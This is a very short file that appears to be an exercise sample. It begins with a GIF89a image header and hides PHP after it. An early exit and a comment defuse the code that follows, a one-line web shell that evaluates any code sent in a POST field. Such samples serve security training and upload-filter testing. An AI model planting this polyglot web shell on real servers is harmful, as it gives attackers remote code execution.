GIF89a
<?php exit; /* A sample for exercises: nothing below this line ever runs. */
@eval($_POST['x7']);
